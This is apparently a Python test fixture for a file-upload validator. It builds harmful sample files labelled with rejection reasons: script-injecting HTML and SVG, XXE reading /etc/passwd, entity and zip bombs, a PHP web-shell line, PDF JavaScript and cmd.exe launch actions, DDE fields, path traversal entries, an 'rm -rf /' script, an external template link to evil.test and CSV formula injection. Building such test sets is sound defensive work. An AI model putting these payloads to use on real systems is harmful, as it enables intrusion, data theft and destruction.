"""Files that are not to come in, each with the reason it gets."""

import gzip
import struct
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache

from tests.core.documents.files import office, open_document, packed, packed_objects, pdf, picture, png_head

HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)
ARCHIVE = packed({"evil.exe": b"MZ" + bytes(100)})
BOMB = bytes(60 * 2**20)
RELATIONS = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="http://evil.test/a" TargetMode="External"/></Relationships>'
)


def lying_archive() -> bytes:
    """An archive that says its part is small, and unpacks into sixty megabytes."""
    made = bytearray(office("xlsx", {"xl/sheet.xml": BOMB}))
    place = made.rfind(b"PK\x01\x02")
    struct.pack_into("<I", made, place + 24, 100)
    local = struct.unpack_from("<I", made, place + 42)[0]
    struct.pack_into("<I", made, local + 22, 100)
    return bytes(made)


def locked_archive() -> bytes:
    made = bytearray(office())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(sign)
        while place >= 0:
            made[place + offset] |= 1
            place = made.find(sign, place + 4)
    return bytes(made)


def twice_named() -> bytes:
    made = office("docx", {"word/documen2.xml": b"<other/>"})
    return made.replace(b"word/documen2.xml", b"word/document.xml")


def cut(content: bytes, share: float = 0.6) -> bytes:
    return content[: int(len(content) * share)]


@cache
def harmful_files() -> Mapping[str, tuple[bytes, str]]:
    """Name → content and the reason; the name is what somebody calls it, and proves nothing."""
    return {**_pages(), **_pictures(), **_pdfs(), **_packages(), **_others()}


def _pages() -> dict[str, tuple[bytes, str]]:
    return {
        "page.png": (HTML, "active"),
        "page.pdf": (b"  \n" + HTML, "active"),
        "half.txt": (b"words\n" * 900 + b"<script>alert(1)</script>", "active"),
        "page.jpg": ("﻿<HTML><head>".encode(), "active"),
        "wide.html": (HTML.decode().encode("utf-16"), "active"),
        "code.php": (b"<?php system($_GET['c']);", "active"),
        "picture.svg": (SVG, "svg"),
        "picture.png": (b'<?xml version="1.0"?>' + SVG, "svg"),
        "late.svg": (b"<!-- " + b"x" * 5000 + b" -->" + SVG, "active"),
        "named.xml": (b'<?xml version="1.0"?><a:svg xmlns:a="http://www.w3.org/2000/svg"/>', "active"),
        "sheet.xml": (b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><r/>', "active"),
        "entities.xml": (XXE, "xml_declares"),
        "laughs.xml": (LAUGHS, "xml_declares"),
        "parameter.xml": (XXE.replace(b"ENTITY x", b"ENTITY % x").replace(b"&x;", b""), "xml_declares"),
        "torn.xml": (b'<?xml version="1.0"?><r><a></r>', "broken"),
    }


def _pictures() -> dict[str, tuple[bytes, str]]:
    png, jpeg = picture(), picture("JPEG")
    return {
        "endless.png": (png_head(50_000, 50_000), "too_many_pixels"),
        "long.png": (png_head(1_000_000, 10), "too_many_pixels"),
        "wide.tif": (_wide_tiff(), "too_many_pixels"),
        "cut.png": (cut(png), "cut_off"),
        "cut.jpg": (cut(picture("JPEG", size=(600, 400))), "cut_off"),
        "torn.png": (png[:45] + bytes(20) + png[65:], "broken"),
        "tail.png": (png + b"more", "polyglot"),
        "archive.png": (png + ARCHIVE, "polyglot"),
        "archive.jpg": (jpeg + ARCHIVE, "polyglot"),
        "rar.jpg": (jpeg + b"Rar!\x1a\x07\x00", "polyglot"),
        "page.jpeg": (jpeg[:-2] + b"<script>alert(1)</script>\xff\xd9", "polyglot"),
        "comment.jpg": (picture("JPEG", comment=b"<html><script>1</script>"), "polyglot"),
        "reader.jpg": (jpeg[:20] + b"%PDF-1.7" + jpeg[20:], "polyglot"),
        "code.webp": (picture("WEBP") + b"<?php phpinfo();", "polyglot"),
        "moving.gif": (picture("GIF"), "other_picture"),
        "script.gif": (b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", "other_picture"),
        "points.bmp": (picture("BMP"), "other_picture"),
        "apple.heic": (b"\x00\x00\x00\x18ftypheic" + bytes(200), "other_picture"),
    }


def _wide_tiff() -> bytes:
    made = bytearray(picture("TIFF"))
    place = made.find(struct.pack("<HHI", 256, 4, 1)) if made.find(struct.pack("<HHI", 256, 4, 1)) >= 0 else -1
    for tag in (256, 257):
        for kind, code in ((3, "<H"), (4, "<I")):
            place = made.find(struct.pack("<HHI", tag, kind, 1))
            if place >= 0:
                struct.pack_into(code, made, place + 8, 20_000)
    return bytes(made)


def _pdfs() -> dict[str, tuple[bytes, str]]:
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    spaces = b" " * 200
    return {
        "script.pdf": (pdf(action, catalog=b"/OpenAction 5 0 R"), "active_pdf"),
        "escaped.pdf": (pdf(b"<< /S /J#61vaScript >>", catalog=b"/OpenAction 5 0 R"), "active_pdf"),
        "packed.pdf": (pdf(packed_objects(b"5 0 " + action)), "active_pdf"),
        "odd.pdf": (pdf(packed_objects(b"", filters=b"/ASCIIHexDecode", body=b"2f4a53>")), "active_pdf"),
        "launch.pdf": (pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 5 0 R"), "active_pdf"),
        "film.pdf": (pdf(b"<< /Type /Annot /Subtype /RichMedia >>"), "active_pdf"),
        "form.pdf": (pdf(catalog=b"/AcroForm << /XFA 5 0 R >>"), "active_pdf"),
        "files.pdf": (pdf(catalog=b"/Names << /EmbeddedFiles 5 0 R >>"), "files_inside"),
        "locked.pdf": (pdf(trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /P -4 >>"), "locked"),
        "cut.pdf": (cut(pdf()), "cut_off"),
        "torn.pdf": (b"%PDF-1.7\n" + spaces + b"\n%%EOF\n", "broken"),
        "nothing.pdf": (b"%PDF-9\n", "broken"),
        "two.pdf": (pdf() + ARCHIVE, "polyglot"),
        "page.pdf ": (pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>1</script>"), "polyglot"),
        "bomb.pdf": (pdf(packed_objects(bytes(64 * 2**20))), "bomb"),
        "late.pdf": (b"GIF89a" + pdf(), "other_picture"),
    }


def _packages() -> dict[str, tuple[bytes, str]]:
    macros = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    field = b"<w><instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</instrText></w>"
    return {
        "bomb.docx": (office("docx", {"word/media/a.bin": BOMB}), "bomb"),
        "sum.xlsx": (office("xlsx", {f"xl/{n}.xml": b"<a>" + bytes(32) * 2**20 + b"</a>" for n in range(7)}), "bomb"),
        "lies.xlsx": (lying_archive(), "broken"),
        "many.docx": (packed({f"word/{n}.xml": b"" for n in range(6000)}), "bomb"),
        "entities.xlsx": (office("xlsx", {"xl/sharedStrings.xml": XXE}), "xml_declares"),
        "laughs.docx": (office("docx", {"word/styles.xml": LAUGHS}), "xml_declares"),
        "macro.docx": (office("docx", {"word/vbaProject.bin": bytes(40)}), "macros"),
        "macro.xlsm": (office("xlsx", types=macros), "macros"),
        "old.xlsx": (office("xlsx", {"xl/macrosheets/sheet1.xml": b"<m/>"}), "macros"),
        "control.docx": (office("docx", {"word/activeX/activeX1.xml": b"<a/>"}), "macros"),
        "dde.docx": (office("docx", {"word/footer.xml": field}), "macros"),
        "link.xlsx": (office("xlsx", {"xl/externalLinks/l.xml": b"<e><ddeLink ddeService='cmd'/></e>"}), "macros"),
        "macro.odt": (open_document({"Basic/Standard/Module1.xml": b"<m/>"}), "macros"),
        "script.ods": (open_document({"Scripts/python/a.py": b"1"}, "spreadsheet"), "macros"),
        "inside.docx": (office("docx", {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "files_inside"),
        "program.docx": (office("docx", {"word/media/a.exe": b"MZ"}), "files_inside"),
        "template.docx": (
            office("docx", {"word/_rels/settings.xml.rels": RELATIONS % b"attachedTemplate"}),
            "reaches_out",
        ),
        "pixel.docx": (office("docx", {"word/_rels/document.xml.rels": RELATIONS % b"image"}), "reaches_out"),
        "up.docx": (office("docx", {"../../../etc/cron.d/a": b"x"}), "traversal"),
        "root.docx": (office("docx", {"/etc/passwd": b"x"}), "traversal"),
        "drive.docx": (office("docx", {"C:\\windows\\a": b"x"}), "traversal"),
        "locked.docx": (locked_archive(), "locked"),
        "locked.odt": (open_document({"META-INF/manifest.xml": b"<m><encryption-data/></m>"}), "locked"),
        "twice.docx": (twice_named(), "polyglot"),
        "before.docx": (b"PK\x03\x04" + bytes(26) + office(), "polyglot"),
        "behind.docx": (office() + b"MZ\x90", "polyglot"),
        "cut.docx": (cut(office()), "broken"),
        "plain.zip": (ARCHIVE, "archive"),
        "act.pdf": (packed({"a.txt": b"x"}, method=zipfile.ZIP_STORED), "archive"),
    }


def _others() -> dict[str, tuple[bytes, str]]:
    return {
        "nothing.pdf": (b"", "empty"),
        "program.pdf": (b"MZ\x90\x00" + bytes(200), "program"),
        "program.png": (b"\x7fELF" + bytes(200), "program"),
        "script.txt": (b"#!/bin/sh\nrm -rf /\n", "program"),
        "old.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
        "rich.rtf": (b"{\\rtf1 \\object}", "old_office"),
        "packed.gz": (gzip.compress(b"x"), "archive"),
        "noise.bin": (zlib.compress(bytes(range(256)) * 20)[2:], "unknown"),
        "zeros.pdf": (bytes(5000), "unknown"),
        "formula.csv": (b"a;b\n1;=cmd|'/c calc'!A1\n", "formulas"),
        "at.csv": (b"a,b\n@SUM(1+1),2\n", "formulas"),
        "plus.csv": (b'"+cmd|calc!A1";1\n', "formulas"),
        "minus.csv": (b"a\n-2+cmd|' /C calc'!A0\n", "formulas"),
        "wide.csv": ("a;b\n1;＝HYPERLINK(1)\n".encode(), "formulas"),
        "first.csv": (b"=1+1\n", "formulas"),
    }
